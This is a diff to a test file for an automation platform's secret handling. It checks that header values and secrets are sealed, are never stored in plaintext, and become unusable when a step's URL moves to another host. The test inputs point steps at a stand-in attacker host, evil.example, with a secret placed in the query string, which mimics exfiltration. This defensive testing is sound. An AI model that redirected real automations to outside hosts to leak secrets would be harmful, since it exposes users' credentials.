@@ -64,8 +64,26 @@ describe('a header value', () => {
     await save(id, draftRevision, graphWith(hook, { name: 'X-Key', value: canary }));
     const header = await headerOf(id);
     const moved = await save(id, draftRevision + 1, graphWith('https://evil.example/hook', header));
-    expect(moved.body.problems).toMatchObject([{ code: 'setting', nodeId: 'call', setting: 'headers' }]);
+    expect(moved.body.problems).toMatchObject([{ code: 'other_host', nodeId: 'call', setting: 'headers' }]);
     await expect(open(header, 'https://evil.example/hook')).rejects.toThrow(CallSecretUnusableError);
+  });
+
+  it('or a secret is sealed alike, and a step whose address changes has to be given both again', async () => {
+    const { id, draftRevision } = await create();
+    const graph = graphWith(`${hook}?k={{ secret.key }}`, { name: 'X-Key', value: 'another' });
+    Object.assign(graph.nodes[1]?.config ?? {}, { secrets: [{ name: 'key', value: canary }] });
+    const saved = await save(id, draftRevision, graph);
+    expect(saved.body.problems).toEqual([]);
+    const { draft } = (await owner.get(`/api/admin/automations/${id}`)).body;
+    const { config } = draft.nodes[1];
+    expect(config.secrets).toEqual([{ name: 'key', value: '', secret: expect.stringMatching(/^[0-9a-f-]{36}$/) }]);
+    expect(await fixture.rows(fixture.kiln, `select 1 from automation t where t::text like '%canary%'`)).toEqual([]);
+    config.url = 'https://evil.example/?k={{ secret.key }}';
+    const moved = await save(id, draftRevision + 1, draft);
+    expect(moved.body.problems).toMatchObject([
+      { code: 'other_host', setting: 'headers' },
+      { code: 'other_host', setting: 'secrets' },
+    ]);
   });
 
   it('of another school cannot be used', async () => {
